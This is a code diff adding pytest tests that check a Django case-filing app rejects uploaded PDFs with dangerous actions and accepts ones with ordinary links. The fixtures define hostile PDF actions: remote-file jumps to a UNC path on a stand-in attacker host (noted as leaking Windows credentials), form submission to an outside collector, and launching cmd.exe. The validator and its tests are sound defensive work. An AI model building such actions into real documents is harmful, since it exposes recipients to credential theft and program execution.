@@ -87,6 +87,51 @@ def test_hostile_files_are_refused_with_a_clear_message_and_nothing_is_filed(
     assert not Case.objects.exists() and not CaseAttachment.objects.exists()
 
 
+UNC = r"\\files.attacker.example\share\invoice.pdf"  # Windows offers credentials to it
+REFUSED_ACTIONS = {
+    "opens a file on another computer when opened": {
+        "opens": {"/S": "/GoToR", "/F": UNC, "/D": [0, "/Fit"]}
+    },
+    "link to another file": {"link": {"/S": "/GoToR", "/F": UNC, "/D": [0, "/Fit"]}},
+    "link into an embedded file": {"link": {"/S": "/GoToE", "/F": UNC, "/D": [0, "/Fit"]}},
+    "imports form data": {"link": {"/S": "/ImportData", "/F": UNC}},
+    "submits a form": {"link": {"/S": "/SubmitForm", "/F": "https://collect.example/"}},
+    "launches a program": {"link": {"/S": "/Launch", "/F": "cmd.exe"}},
+    "article thread in another file": {"link": {"/S": "/Thread", "/F": UNC, "/D": 0}},
+    "plays a sound": {"opens": {"/S": "/Sound"}},
+    "plays a movie": {"link": {"/S": "/Movie", "/T": "clip"}},
+}
+PLAIN_ACTIONS = {
+    "link to a web page": {"link": {"/S": "/URI", "/URI": "https://www.jindu.example/"}},
+    "link within the file": {"opens": {"/S": "/GoTo", "/D": [0, "/Fit"]}},
+    "article thread within the file": {"link": {"/S": "/Thread", "/D": 0}},
+    "shows or hides a field": {"link": {"/S": "/Hide", "/T": "note"}},
+    "menu command": {"link": {"/S": "/Named", "/N": "/Print"}},
+}
+
+
+@pytest.mark.parametrize("actions", REFUSED_ACTIONS.values(), ids=REFUSED_ACTIONS.keys())
+def test_pdfs_that_reach_other_files_or_send_data_are_refused(
+    client, verified_owner, repairs, actions
+):
+    client.force_login(verified_owner)
+    client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
+    upload = SimpleUploadedFile("bill.pdf", pdf_bytes(**actions), content_type="application/pdf")
+    response = file_a_case(client, repairs, upload)
+    assert response.status_code == 200
+    errors = " ".join(response.context["form"].errors["attachments"])
+    assert "bill.pdf" in errors and "actions" in errors
+    assert not Case.objects.exists()
+
+
+@pytest.mark.parametrize("actions", PLAIN_ACTIONS.values(), ids=PLAIN_ACTIONS.keys())
+def test_pdfs_with_ordinary_links_are_accepted(client, verified_owner, repairs, actions):
+    client.force_login(verified_owner)
+    upload = SimpleUploadedFile("bill.pdf", pdf_bytes(**actions), content_type="application/pdf")
+    assert file_a_case(client, repairs, upload).status_code == 302
+    assert CaseAttachment.objects.get().verified_type == "application/pdf"
+
+
 def test_the_action_itself_refuses_an_unchecked_file(verified_owner, repairs):
     """Code that files a case without a form gets the same check."""
     with pytest.raises(casework.CaseError):
